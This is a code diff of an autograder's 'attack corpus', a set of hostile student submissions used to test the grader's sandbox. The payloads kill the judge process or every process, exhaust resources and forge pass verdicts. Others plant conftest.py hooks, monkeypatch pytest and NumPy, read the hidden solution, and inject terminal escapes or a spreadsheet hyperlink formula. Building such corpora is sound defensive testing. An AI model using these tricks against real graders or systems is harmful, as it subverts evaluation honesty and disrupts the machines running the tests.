@@ -1,71 +1,14 @@
-"""The attack corpus: hostile submissions, each a student's module with a few lines too many.
-
-An attack stands on the stub of an assignment (then it deserves nothing) or on the solution with one task spoilt (then
-it deserves the other tasks). `_everywhere(f)` puts f in the place of every function that it may spoil. `{tests}`,
-`{solution}` and `{course}` are the paths that a thief would guess at best.
-"""
+"""The attack corpus: hostile submissions to assignment 01, and all of them together."""
 
 from __future__ import annotations
 
-from dataclasses import dataclass
+from attacks.attack import FAMILIES, Attack, each
+from attacks.frames import FRAMES, WIRE
+from attacks.torches import TORCHES
 
-from autograder.stub import to_stub
-from autograder.topic import Topic
+__all__ = ["ATTACKS", "FAMILIES", "Attack", "as_table"]
 
-FAMILIES = {
-    1: "ending early, using up",
-    2: "forging results",
-    3: "tampering with the framework",
-    4: "shadowing",
-    5: "reading secrets",
-    6: "fooling comparisons",
-    7: "the answer from elsewhere",
-    8: "metadata",
-}
-
-
-@dataclass(frozen=True)
-class Attack:
-    """One hostile submission."""
-
-    name: str
-    family: int
-    tries: str  #: what it is after, in words
-    code: str
-    spoils: str = ""  #: the task that it stands in for on the solution; "" for the stub
-    at_start: bool = False
-
-    def source(self, topic: Topic) -> str:
-        """Return the module."""
-        solution = topic.solution_path.read_text(encoding="utf-8")
-        if self.spoils:
-            text, names = solution, topic.task(self.spoils).names
-        else:
-            text = to_stub(solution, str(topic.solution_path))
-            names = tuple(name for task in topic.tasks for name in task.names)
-        code = self.code.strip("\n")
-        for key, path in (
-            ("{tests}", topic.hidden_tests_path),
-            ("{solution}", topic.solution_path),
-            ("{course}", topic.folder.parent.parent),
-        ):
-            code = code.replace(key, str(path))
-        everywhere = (
-            f"\n\n_NAMES = {names!r}\n\n\ndef _everywhere(f):\n    for _name in _NAMES:\n"
-            "        globals()[_name] = f\n\n\n"
-        )
-        return f"{code}\n\n{text}" if self.at_start else f"{text}{everywhere}{code}\n"
-
-    def deserves(self, topic: Topic) -> float:
-        """Return the points of its honest part."""
-        return topic.points - topic.task(self.spoils).points if self.spoils else 0.0
-
-
-def _each(family: int, spoils: str, *attacks: tuple[str, str, str]) -> tuple[Attack, ...]:
-    return tuple(Attack(name, family, tries, code, spoils) for name, tries, code in attacks)
-
-
-ENDING = _each(
+ENDING = each(
     1,
     "",
     ("exit at import", "a process that ends well", "import os\nos._exit(0)"),
@@ -81,7 +24,6 @@ ENDING = _each(
     ("pytest.skip", "skipped tests", "def _f(*a, **k):\n    import pytest\n    pytest.skip('not today')\n_everywhere(_f)"),
     ("unittest.SkipTest", "skipped tests", "import unittest\ndef _f(*a, **k): raise unittest.SkipTest('no')\n_everywhere(_f)"),
     ("segmentation fault", "a crash", "import ctypes\n_everywhere(lambda *a, **k: ctypes.string_at(0))"),
-    ("a recursion in C", "a crash", "def _f(*a, **k):\n    x = []\n    for _ in range(10**6): x = [x]\n    return repr(x)\n_everywhere(_f)"),
     ("kill the parent", "the judge's end", "import os, signal\ndef _f(*a, **k): os.kill(os.getppid(), signal.SIGKILL)\n_everywhere(_f)"),
     ("kill everybody", "the judge's end", "import os\ndef _f(*a, **k): os.kill(-1, 9)\n_everywhere(_f)"),
     ("kill each", "the judge's end", """
@@ -126,9 +68,10 @@ _everywhere(_f)"""),
     ("a flood of output", "a full log", "import sys\ndef _f(*a, **k):\n    for _ in range(2000): print('PASSED ' * 2000); sys.stderr.write('x' * 10000)\n_everywhere(_f)"),
 )  # fmt: skip
 
-USING_UP = _each(
+USING_UP = each(
     1,
     "predict",
+    ("a recursion in C", "a crash", "def _f(*a, **k):\n    x = []\n    for _ in range(10**6): x = [x]\n    return repr(x)\n_everywhere(_f)"),
     ("endless loop", "no end", "def _f(*a, **k):\n    while True: pass\n_everywhere(_f)"),
     ("endless recursion", "no end", "def _f(*a, **k): return _f()\n_everywhere(_f)"),
     ("sleep", "no end without work", "import time\n_everywhere(lambda *a, **k: time.sleep(10**6))"),
@@ -177,24 +120,7 @@ def _f(*a, **k):
 _everywhere(_f)"""),
 )  # fmt: skip
 
-_WIRE = """
-import gc, os, socket, struct, sys, threading, time
-def _worker():
-    frame = sys._getframe()
-    while frame:
-        found = frame.f_locals.get('self')
-        if type(found).__name__ == 'Worker': return found
-        frame = frame.f_back
-def _nonce():
-    frame = sys._getframe()
-    while frame:
-        if 'nonce' in frame.f_locals: return frame.f_locals['nonce']
-        frame = frame.f_back
-def _frame(header, body=b'', size=None):
-    return struct.pack('<IQ', len(header), len(body) if size is None else size) + header + body
-"""
-
-FORGING = _each(
+FORGING = each(
     2,
     "",
     ("results on disk", "a report of its own", """
@@ -204,48 +130,40 @@ for _name in ('results.json', 'report.json', 'signatures.json', '/tmp/report.jso
     except OSError: pass"""),
     ("printed verdicts", "a parser of output", "print('90 passed in 0.01s'); print('{\"score\": 90}')\n_everywhere(lambda *a, **k: print('PASSED'))"),
     ("printed to descriptors", "a parser of output", "import os\nfor _fd in range(64):\n    try: os.write(_fd, b'{\"results\": []}\\n')\n    except OSError: pass"),
-    ("an answer before the question", "an answer that fits", _WIRE + """
-import msgpack
+    ("an answer before the question", "an answer that fits", WIRE + """
 os.write(3, _frame(msgpack.packb([b'00000000', 'ok', True, [], None])))"""),
-    ("every answer sent twice", "the next question's answer", _WIRE + """
+    ("every answer sent twice", "the next question's answer", WIRE + """
 def _f(*a, **k):
-    import msgpack
     os.write(3, _frame(msgpack.packb([_nonce(), 'ok', 1.0, [], None])))
     return 1.0
 _everywhere(_f)"""),
-    ("a late answer", "the next question's answer", _WIRE + """
+    ("a late answer", "the next question's answer", WIRE + """
 def _f(*a, **k):
-    import msgpack
     data = _frame(msgpack.packb([_nonce(), 'ok', True, [], None]))
     threading.Timer(0.01, os.write, (3, data)).start()
     return 1.0
 _everywhere(_f)"""),
-    ("a frame that lies about its size", "memory for nothing", _WIRE + "def _f(*a, **k): os.write(3, _frame(b'', b'', 1 << 60))\n_everywhere(_f)"),
-    ("half a frame", "a judge that waits", _WIRE + "def _f(*a, **k):\n    os.write(3, struct.pack('<IQ', 1000, 0) + b'x'); time.sleep(1000)\n_everywhere(_f)"),
-    ("a frame of zeros", "a crash of the decoder", _WIRE + "def _f(*a, **k): os.write(3, bytes(1 << 16))\n_everywhere(_f)"),
-    ("a number of 100 GB", "the judge's memory", _WIRE + """
+    ("a frame that lies about its size", "memory for nothing", WIRE + "def _f(*a, **k): os.write(3, _frame(b'', b'', 1 << 60))\n_everywhere(_f)"),
+    ("a frame of zeros", "a crash of the decoder", WIRE + "def _f(*a, **k): os.write(3, bytes(1 << 16))\n_everywhere(_f)"),
+    ("a number of 100 GB", "the judge's memory", WIRE + """
 def _f(*a, **k):
-    import msgpack
     os.write(3, _frame(msgpack.packb([_nonce(), 'ok', ['n', 'f8', 100_000_000_000], [], None])))
 _everywhere(_f)"""),
-    ("a generator that reads beyond its array", "a crash of the judge", _WIRE + """
+    ("a generator that reads beyond its array", "a crash of the judge", WIRE + """
 def _f(*a, **k):
-    import json, msgpack
+    import json
     state = {'bit_generator': 'MT19937', 'state': {'key': [1] * 624, 'pos': 10**7}}
     os.write(3, _frame(msgpack.packb([_nonce(), 'ok', ['g', json.dumps(state)], [], None])))
 _everywhere(_f)"""),
-    ("changes of what was never sent", "arguments of another call", _WIRE + """
+    ("changes of what was never sent", "arguments of another call", WIRE + """
 def _f(*a, **k):
-    import msgpack
     os.write(3, _frame(msgpack.packb([_nonce(), 'ok', True, [[10**6, 0], [-1, 0]], None])))
 _everywhere(_f)"""),
-    ("calls of functions that nobody gave", "the judge's functions", _WIRE + """
+    ("calls of functions that nobody gave", "the judge's functions", WIRE + """
 def _f(*a, **k):
-    import msgpack
     for number in range(5): os.write(3, _frame(msgpack.packb([b'', 'callback', number, ['t'], ['d']])))
 _everywhere(_f)"""),
-    ("a worker that answers yes", "a verdict of its own", _WIRE + """
-from autograder.sandbox import worker as _w
+    ("a worker that answers yes", "a verdict of its own", WIRE + """
 def _answer(self, target, name, args, kwargs): return True
 _w.Worker.do_call = _w.Worker.do_operate = _w.Worker.do_probe = _answer"""),
     ("escapes in an error", "the teacher's terminal", "def _f(*a, **k): raise ValueError('\\x1b]0;owned\\x07\\x1b[2J\\x1b[31mPASSED\\r\\n90/90')\n_everywhere(_f)"),
@@ -253,7 +171,7 @@ _w.Worker.do_call = _w.Worker.do_operate = _w.Worker.do_probe = _answer"""),
     ("a formula in an error", "the teacher's spreadsheet", "def _f(*a, **k): raise ValueError('=HYPERLINK(\"http://evil\")')\n_everywhere(_f)"),
 )  # fmt: skip
 
-TAMPERING = _each(
+TAMPERING = each(
     3,
     "",
     ("comparisons of NumPy", "comparisons that say yes", """
@@ -261,10 +179,11 @@ np.allclose = np.array_equal = np.isclose = lambda *a, **k: True
 np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None"""),
     ("builtins", "comparisons that say yes", "import builtins\nbuiltins.all = builtins.any = builtins.isinstance = lambda *a: True\nbuiltins.abs = lambda x: 0"),
     ("expect", "expectations that hold", """
-import autograder.expect as _e
+import importlib
+_e = importlib.import_module('autograder.expect')
 for _n in dir(_e):
     if not _n.startswith('_') and callable(getattr(_e, _n)): setattr(_e, _n, lambda *a, **k: None)"""),
-    ("pytest itself", "tests that do not run", "try:\n    import _pytest.python as _p\n    _p.Function.runtest = lambda self: None\nexcept Exception: pass"),
+    ("pytest itself", "tests that do not run", "try:\n    import importlib; _p = importlib.import_module('_pytest.python')\n    _p.Function.runtest = lambda self: None\nexcept Exception: pass"),
     ("a conftest.py", "a hook of its own", """
 for _folder in ('.', '/tmp', '{course}', '{course}/assignments'):
     try: open(_folder + '/conftest.py', 'w').write('def pytest_runtest_call(item): item.obj = lambda: None')
@@ -285,12 +204,19 @@ def _f(*a, **k):
             s = g.bit_generator.state; s['state'] = {'state': 0, 'inc': 0}; g.bit_generator.state = s
     return 0.0
 _everywhere(_f)"""),
+    ("a generator wound to where it yields zero", "inputs that are known", """
+def _f(*a, **k):
+    for g in (*a, *k.values()):
+        if isinstance(g, np.random.Generator):
+            s = g.bit_generator.state; s['state']['state'] = 0; g.bit_generator.state = s
+    return {}
+_everywhere(_f)"""),
     ("a trace function", "the judge's steps", "import sys, threading\nsys.settrace(lambda *a: None); threading.settrace(lambda *a: None); sys.setprofile(lambda *a: None)"),
-    ("the codec", "answers that fit", "from autograder.sandbox import codec as _c\n_c.Codec.encode = lambda self, value, depth=0: ['x', 0]"),
+    ("the codec", "answers that fit", "import importlib\n_c = importlib.import_module('autograder.sandbox.codec')\n_c.Codec.encode = lambda self, value, depth=0: ['x', 0]"),
     ("limits", "more than is allowed", "import resource\nfor _r in range(16):\n    try: resource.setrlimit(_r, (resource.RLIM_INFINITY,) * 2)\n    except (OSError, ValueError): pass"),
 )  # fmt: skip
 
-SHADOWING = _each(
+SHADOWING = each(
     4,
     "",
     ("numpy.py", "a NumPy of its own", "for _n in ('numpy', 'pytest', 'torch', 'reference', 'autograder'):\n    open(_n + '.py', 'w').write('raise SystemExit(0)')"),
@@ -307,7 +233,7 @@ for _folder in ('{course}/assignments', '/tmp', '.'):
     ("sys.path to the course", "the solution", "import sys\nsys.path.insert(0, '{solution}'.rpartition('/')[0])\nfor _n in ('neural_network_basics',):\n    sys.modules.pop(_n, None)\n    try:\n        import importlib; globals().update(vars(importlib.import_module(_n)))\n    except Exception: pass"),
 )  # fmt: skip
 
-SECRETS = _each(
+SECRETS = each(
     5,
     "",
     ("the solution's file", "the solution", "try: exec(open('{solution}').read())\nexcept OSError: pass"),
@@ -410,7 +336,7 @@ class _Yes:
     def __iter__(self): return iter(())
 """
 
-FOOLING = _each(
+FOOLING = each(
     6,
     "",
     ("equal to everything", "comparisons that say yes", _OBJECT + "_everywhere(lambda *a, **k: _Yes())"),
@@ -456,28 +382,27 @@ _everywhere(_f)"""),
     ("the arguments themselves", "aliases of what is compared", "_everywhere(lambda *a, **k: a[-1] if a else None)"),
 )  # fmt: skip
 
-ELSEWHERE = _each(
+ELSEWHERE = each(
     7,
     "",
     ("a library that is not offered", "the library's answer", """
 def _f(x, axis=-1, *a, **k):
-    import scipy.special
-    return scipy.special.softmax(x, axis=axis)
+    return __import__('importlib').import_module('scipy.special').softmax(x, axis=axis)
 _everywhere(_f)"""),
     ("torch by another door", "the library's answer", "def _f(x, *a, **k):\n    torch = __import__('importlib').import_module('torch')\n    return torch.relu(torch.tensor(x)).numpy()\n_everywhere(_f)"),
     ("the examiner's own loader", "the solution", """
 try:
+    from importlib import import_module
     from pathlib import Path
-    from autograder.examiner import load_solution
-    from autograder.topic import read_topic
-    globals().update(vars(load_solution(read_topic(Path('{solution}').parent))))
+    topic = import_module('autograder.topic').read_topic(Path('{solution}').parent)
+    globals().update(vars(import_module('autograder.examiner').load_solution(topic)))
 except Exception: pass"""),
     ("self-reported success", "a number that sounds right", "_everywhere(lambda *a, **k: 1.0)"),
     ("a payload in base64", "what no reader sees", "import base64\nexec(base64.b64decode(b'ZGVmIHNvZnRtYXgoKmEpOiByZXR1cm4gMQ=='))"),
     ("remembered answers", "test data by heart", "_TABLE = {b'x': 1.0}\n_everywhere(lambda *a, **k: _TABLE.get(a[0].tobytes() if a and hasattr(a[0], 'tobytes') else b'', 0.0))"),
 )  # fmt: skip
 
-METADATA = _each(
+METADATA = each(
     8,
     "",
     ("points of its own", "more points a task", """
@@ -502,16 +427,21 @@ ATTACKS: tuple[Attack, ...] = (
     *ENDING,
     *USING_UP,
     *FORGING,
+    *FRAMES,
     *TAMPERING,
     *SHADOWING,
     *SECRETS,
     *FOOLING,
     *ELSEWHERE,
     *METADATA,
+    *TORCHES,
 )
 
 
 def as_table() -> str:
     """Return the corpus as docs/security.md shows it."""
-    rows = [f"| {attack.family} | {attack.name} | {attack.tries} |" for attack in ATTACKS]
-    return "\n".join(["| family | attack | what it is after |", "|---|---|---|", *rows])
+    rows = [
+        f"| {attack.family} | {attack.topic_id[:2]} | {attack.name} | {attack.tries} |"
+        for attack in sorted(ATTACKS, key=lambda attack: attack.family)
+    ]
+    return "\n".join(["| family | assignment | attack | what it is after |", "|---|---|---|---|", *rows])
